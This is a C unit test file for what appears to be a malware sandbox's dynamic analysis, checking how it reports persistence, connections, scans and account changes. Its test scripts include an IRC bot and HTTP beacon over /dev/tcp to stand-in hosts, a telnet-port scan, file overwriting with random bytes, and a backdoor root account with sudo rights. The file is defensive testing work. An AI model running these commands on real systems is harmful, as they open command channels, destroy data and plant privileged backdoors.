/* dynamic.json from a run: what the inert program of testdata/garden does is all in it. */
#include "micro/micro.h"
#include "unit.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static json_t *find(const json_t *list, const char *key, const char *value)
{
	size_t i;
	json_t *o;

	json_array_foreach(list, i, o)
		if (jsonio_str(o, key) && !strcmp(jsonio_str(o, key), value))
			return o;
	return NULL;
}

static const struct micro_member *member(const struct micro_extra *x, const char *begin)
{
	for (size_t i = 0; i < x->count; i++)
		if (!strncmp(x->member[i].name, begin, strlen(begin)))
			return &x->member[i];
	return NULL;
}

static bool listed(const json_t *list, const char *text)
{
	size_t i;
	json_t *v;

	json_array_foreach(list, i, v)
		if (json_is_string(v) && !strcmp(json_string_value(v), text))
			return true;
	return false;
}

static int compiled(const char *source)
{
	char path[] = "/tmp/muss-settler-XXXXXX";
	int fd = mkstemp(path), out, rc;
	struct err e;
	const char *argv[] = { "cc", "-O1", "-o", path, source, NULL };
	struct spawn s = { .argv = argv, .in = -1, .out = -1, .errfd = -1 };

	close(fd);
	rc = spawn_start(&s, &e) ? -1 : spawn_wait(&s, 30000, &e);
	out = rc ? -1 : open(path, O_RDONLY | O_CLOEXEC);
	unlink(path);
	return out;
}

static int text_fd(const char *text)
{
	int fd = memfd_create("text", MFD_CLOEXEC);

	return fd < 0 || io_write(fd, text, strlen(text)) ? -1 : fd;
}

static void settler(void)
{
	struct err e = { 0 };
	char hex[DIGEST_HEX];
	struct micro_extra x = { 0 };
	struct micro_options o = { .seconds = 20 };
	struct micro_sample s = { .sha256 = hex, .kind = "file", .path = "/usr/local/bin/settler", .body = compiled("testdata/garden/settler.c") };
	json_t *d, *f, *signs, *v;
	const struct micro_member *m;
	const char *const argv[] = { "/usr/local/bin/settler", "-q", NULL };
	struct stat st;

	if (!OK(s.body >= 0, "the test program compiles"))
		return;
	s.argv = argv;
	digest_fd(s.body, MIB, hex, NULL, &e);
	d = dynamic_analyse(&s, &o, &x, &e);
	close(s.body);
	if (!OK(d != NULL, "it is analysed")) {
		printf("# %s\n", e.msg);
		return;
	}
	OK_STR(jsonio_str(d, "run"), "ran", "it ran");
	OK(jsonio_num(d, "seconds", 99) < 10, "a resident program does not cost the whole window");
	OK(listed(json_object_get(d, "limits"), "quiet") && !jsonio_bool(d, "timed_out", true), "and that is said");
	v = json_array_get(json_object_get(d, "processes"), 0);
	OK(json_array_size(json_object_get(v, "argv")) == 2 && !strcmp(jsonio_str(v, "sha256"), hex), "its first process is the sample, with its arguments");
	v = find(json_object_get(d, "processes"), "end", "running");
	OK(v && !strcmp(jsonio_str(v, "sha256"), hex), "its second lives on");
	OK(v && jsonio_bool(v, "renamed", false) && jsonio_str(v, "comm"), "under a name that it gave itself");
	f = find(json_object_get(d, "files"), "path", "/var/lib/.settler/udevd");
	OK(f && !strcmp(jsonio_str(f, "sha256"), hex) && jsonio_int(f, "mode", 0) == 0755, "its copy is listed");
	f = find(json_object_get(d, "files"), "path", "/etc/profile");
	OK(f && json_array_size(json_object_get(f, "lines")) == 1 && !strcmp(jsonio_str(f, "startup"), "profile"),
	   "a changed start-up file has just the added line");
	f = find(json_object_get(d, "startup"), "file", "/etc/cron.d/settler");
	OK(f && jsonio_bool(f, "whole", false), "a new start-up file is an entry as a whole");
	f = find(json_object_get(d, "startup"), "line", "/var/lib/.settler/udevd &");
	OK(f && !strcmp(jsonio_str(f, "place"), "profile") && !strcmp(jsonio_str(f, "file"), "/etc/profile"), "the added line is an entry");
	f = find(json_object_get(d, "connections"), "address", "192.0.2.7");
	OK(f && jsonio_int(f, "port", 0) == 6667 && !strcmp(jsonio_str(f, "protocol"), "tcp"), "the connection is listed");
	f = json_array_get(json_object_get(d, "memory"), 0);
	OK(f && jsonio_int(f, "size", 0) == 4096 && digest_ok(jsonio_str(f, "sha256")), "the code in memory is listed");
	m = member(&x, "memory-dynamic/");
	OK(m && m->mode == 0 && fstat(m->fd, &st) == 0 && st.st_size == 4096, "and kept");
	OK(member(&x, "dropped/") && !find(json_object_get(d, "files"), "path", "/usr/local/bin/settler"), "so is what it wrote, not what we put there");
	signs = json_object_get(d, "signs");
	OK(find(signs, "name", "deletes-itself") != NULL, "sign: deletes itself");
	OK(find(signs, "name", "disguised-name") != NULL, "sign: disguised name");
	OK(find(signs, "name", "unpacks-itself") != NULL, "sign: unpacks itself");
	OK(find(signs, "name", "watches-for-tracer") != NULL, "sign: looks for a tracer");
	OK(find(signs, "name", "denied-calls") != NULL, "sign: refused calls");
	OK(find(signs, "name", "daemonises") != NULL, "sign: goes into the background");
	OK(!find(signs, "name", "kills-others") && !find(signs, "name", "injects"), "and none that is not so");
	json_decref(d);
	micro_extra_free(&x);
}

static json_t *run_text(const char *text, const char *path, const char *kind)
{
	struct err e = { 0 };
	char hex[DIGEST_HEX];
	struct micro_extra x = { 0 };
	struct micro_options o = { .seconds = 3 };
	struct micro_sample s = { .sha256 = hex, .kind = kind, .path = path, .body = text_fd(text) };
	json_t *d;

	digest_bytes(text, strlen(text), hex);
	d = dynamic_analyse(&s, &o, &x, &e);
	close(s.body);
	micro_extra_free(&x);
	return d;
}

static void scripts(void)
{
	json_t *d = run_text("#!/bin/sh\necho hello > /tmp/out\nwhile :; do sleep 0.2; echo x >> /tmp/out; done\n", "/tmp/x.sh", "script");

	OK(d && find(json_object_get(d, "files"), "path", "/tmp/out"), "a script is run by its first line");
	OK(d && jsonio_bool(d, "timed_out", false) && jsonio_num(d, "seconds", 0) >= 2.9, "a busy one takes the whole window");
	json_decref(d);
	d = run_text("touch /tmp/bare\n", "/proc/77/exe", "file");
	OK(d && find(json_object_get(d, "files"), "path", "/tmp/bare"), "a text without one by the shell");
	OK(d && !strncmp(jsonio_str(d, "path"), "/home/", 6) && !strcmp(strrchr(jsonio_str(d, "path"), '/'), "/exe") &&
	   strcmp(jsonio_str(d, "path"), "/home/user/exe"), "in the home of who lives there when its own place is none");
	json_decref(d);
	d = run_text("\177ELF and no more", "/usr/bin/x", "file");
	OK(d && !strcmp(jsonio_str(d, "run"), "refused"), "what is no program is refused");
	json_decref(d);
	d = run_text("#!/bin/sh\nkill -SEGV $$\n", "/usr/bin/x", "script");
	OK(d && !strcmp(jsonio_str(d, "run"), "crashed") && jsonio_int(d, "status", 0) == 139, "a crash is one");
	json_decref(d);
}

/* Does a file show that only some runs made, and which ones? */
static bool seen_in(const json_t *d, const char *path, unsigned run)
{
	const json_t *runs = json_object_get(find(json_object_get(d, "files"), "path", path), "runs");

	return json_array_size(runs) == 1 && json_integer_value(json_array_get(runs, 0)) == (json_int_t)run;
}

static const char *setting_of(const json_t *d, unsigned run)
{
	return jsonio_str(json_array_get(json_object_get(d, "runs"), run), "setting");
}

/* Code that does nothing where it does not like what it sees. */
static void ways(void)
{
	char *text;
	json_t *d = run_text("#!/bin/sh\necho x > /tmp/out\n", "/tmp/x.sh", "script");

	OK(d && json_array_size(json_object_get(d, "runs")) == 1 && seen_in(d, "/tmp/out", 0) && !strcmp(setting_of(d, 0), "root"),
	   "what shows something at once is run once");
	json_decref(d);
	d = run_text("#!/bin/sh\n[ \"$1\" = start ] && echo x > /tmp/out\nexit 3\n", "/tmp/x.sh", "script");
	OK(d && seen_in(d, "/tmp/out", 2) && !strcmp(setting_of(d, 2), "start"), "what wants an argument is given one");
	OK(d && jsonio_bool(json_array_get(json_object_get(d, "runs"), 0), "silent", false) &&
		!jsonio_bool(json_array_get(json_object_get(d, "runs"), 2), "silent", true), "the runs before were silent");
	OK(d && jsonio_int(d, "status", 0) == 3 && json_array_size(json_object_get(json_array_get(json_object_get(d, "runs"), 2), "argv")) == 2,
	   "each run has its arguments and its end");
	OK(d && json_array_size(json_object_get(d, "processes")) == 3, "and its processes");
	json_decref(d);
	d = run_text("#!/bin/sh\ncase $LANG in ru_*) echo x > /tmp/out ;; esac\n", "/tmp/x.sh", "script");
	OK(d && seen_in(d, "/tmp/out", 5) && !strcmp(setting_of(d, 5), "russian"), "what minds the language meets another");
	json_decref(d);
	text = buf_printf("#!/bin/sh\n[ \"$(date +%%s)\" -gt %lld ] && echo x > /tmp/out\n", (long long)time(NULL) + 30 * 86400);
	d = run_text(text, "/tmp/x.sh", "script");
	OK(d && seen_in(d, "/tmp/out", 3) && !strcmp(setting_of(d, 3), "later"), "what waits for a date meets it");
	json_decref(d);
	free(text);
	if (geteuid() == 0) {
		d = run_text("#!/bin/sh\n[ \"$(id -u)\" != 0 ] && echo $(id -u) > /tmp/out\n", "/tmp/x.sh", "script");
		OK(d && seen_in(d, "/tmp/out", 1), "what is no root's is run by a user");
		json_decref(d);
	}
	d = run_text("#!/bin/sh\n:\n", "/tmp/x.sh", "script");
	OK(d && json_array_size(json_object_get(d, "runs")) >= 4 && !json_array_size(json_object_get(d, "files")), "what never does anything is told so");
	json_decref(d);
}

/* A beacon that waits for days between two calls: all of it is seen within the second, and whose it was. */
static void network(void)
{
	json_t *d = run_text("#!/bin/bash\nexec 3<>/dev/tcp/irc.badhost.test/6667\nprintf 'NICK zx81\\r\\nUSER a b c :d\\r\\nJOIN #cmd\\r\\n' >&3\n"
		"while read -r -t 5 l <&3; do case $l in *PRIVMSG*) printf 'PRIVMSG #cmd :ok then\\r\\n' >&3; break ;; esac; done\nsleep 604800\n"
		"exec 4<>/dev/tcp/198.51.100.77/80\nprintf 'GET /gate.php?id=7 HTTP/1.0\\r\\nHost: gate.example\\r\\n\\r\\n' >&4\ncat <&4 >/dev/null\n", "/tmp/x.sh", "script");
	const json_t *irc = find(json_object_get(d, "exchanges"), "service", "irc"), *http = find(json_object_get(d, "exchanges"), "service", "http");
	const json_t *sleep = json_array_get(json_object_get(d, "sleeps"), 0), *said = json_array_get(json_object_get(irc, "said"), 0), *o;

	OK(irc && jsonio_str(irc, "name") && !strcmp(jsonio_str(irc, "name"), "irc.badhost.test"), "a name leads to an address that leads back to it");
	OK(said && !strcmp(jsonio_str(said, "text"), "ok then"), "a bot is given commands, and answers");
	OK(find(json_object_get(d, "signs"), "name", "joins-irc") != NULL, "sign: joins IRC");
	OK(sleep && jsonio_num(sleep, "seconds", 0) > 604799 && jsonio_num(json_array_get(json_object_get(d, "runs"), 0), "seconds", 99) < 2.5,
	   "a week passes at once");
	OK(http && jsonio_int(http, "pid", 0) == jsonio_int(json_array_get(json_object_get(d, "processes"), 0), "pid", -1), "an exchange is its process's");
	OK(find(json_object_get(d, "indicators"), "value", "http://gate.example/gate.php?id=7") != NULL, "its page is an indicator");
	OK(find(json_object_get(d, "indicators"), "value", "198.51.100.77") != NULL, "so is an address without a name");
	o = find(json_object_get(d, "timeline"), "event", "http");
	OK(o && !strcmp(jsonio_str(o, "what"), "GET gate.example/gate.php?id=7"), "the timeline tells of it");
	json_decref(d);
}

static void scans(void)
{
	json_t *d = run_text("#!/bin/bash\nfor i in {1..40}; do : >/dev/tcp/203.0.113.$i/23; done 2>/dev/null\n", "/tmp/x.sh", "script");
	const json_t *scan = json_array_get(json_object_get(d, "scans"), 0);

	OK(scan && jsonio_int(scan, "port", 0) == 23 && jsonio_int(scan, "addresses", 0) == 40 && !strcmp(jsonio_str(scan, "order"), "sequential"),
	   "a scan is told by port, number and order");
	OK(find(json_object_get(d, "signs"), "name", "scans") && !find(json_object_get(d, "indicators"), "kind", "ip"), "its addresses are no indicators");
	json_decref(d);
}

static unsigned marked(const json_t *list, const char *key)
{
	unsigned n = 0;
	size_t i;
	json_t *v;

	json_array_foreach(list, i, v)
		n += json_object_get(v, key) != NULL;
	return n;
}

#define LICENCES "/usr/share/common-licenses/"

/* What was in a file before, and whether it can be read now. */
static void contents(void)
{
	json_t *d, *f;
	struct stat st;

	if (stat(LICENCES "GPL-2", &st)) {
		printf("ok - # skip no texts of licences here\n");
		return;
	}
	d = run_text("#!/bin/sh\ncd " LICENCES "\nfor f in GPL-2 GPL-3; do head -c 9000 /dev/urandom > $f; done\n"
		"head -c 9000 /dev/urandom > BSD.x; rm BSD; gzip -n GFDL-1.3; echo more >> Artistic\n", "/tmp/x.sh", "script");
	f = find(json_object_get(d, "files"), "path", LICENCES "GPL-2");
	OK(f && digest_ok(jsonio_str(f, "before")) && jsonio_int(f, "before_size", 0) == st.st_size, "what a file was before is told");
	OK(jsonio_bool(f, "unreadable", false), "chance in the place of a text is unreadable");
	f = find(json_object_get(d, "files"), "path", LICENCES "BSD.x");
	OK(jsonio_bool(f, "unreadable", false), "under the old name with an ending, too");
	OK(marked(json_object_get(d, "files"), "unreadable") == 3, "a packed file and one with more lines are not");
	json_decref(d);
}

static void accounts(void)
{
	json_t *d = run_text("#!/bin/sh\nprintf 'new:x:0:7::/:\\n::::\\nx\\n' >> /etc/passwd\nsed -i 's|^games:.*|games:*:5:60:::/bin/sh|; /^lp:/d' /etc/passwd\n"
		"echo 'x:x:9:new,,games' >> /etc/group\nmkdir -p /etc/sudoers.d\nprintf '# no\\n\\tDefaults x\\nnew ALL=ALL\\n#7 ALL=ALL\\n' > /etc/sudoers.d/x\n",
		"/tmp/x.sh", "script"), *all = json_object_get(d, "accounts"), *o = find(all, "change", "created");

	OK(o && !strcmp(jsonio_str(o, "account"), "new") && !strcmp(jsonio_str(o, "detail"), "0"), "an account that was made");
	o = find(all, "change", "shell");
	OK(o && !strcmp(jsonio_str(o, "account"), "games") && !strcmp(jsonio_str(o, "detail"), "/bin/sh"), "another shell");
	OK(find(all, "change", "password") && !json_object_get(find(all, "change", "password"), "detail"), "another password, which is not told");
	o = find(all, "change", "deleted");
	OK(o && !strcmp(jsonio_str(o, "account"), "lp"), "one that was deleted");
	o = find(all, "change", "group");
	OK(o && !strcmp(jsonio_str(o, "account"), "new") && !strcmp(jsonio_str(o, "detail"), "x"), "members of a group");
	o = find(all, "change", "rights");
	OK(o && !strcmp(jsonio_str(o, "account"), "new") && find(all, "account", "#7"), "rights by sudo, of a number as well; comments are none");
	json_decref(d);
}

int main(void)
{
	msg_init("micro_dynamic");
	network();
	scans();
	contents();
	accounts();
	settler();
	scripts();
	ways();
	return unit_end();
}
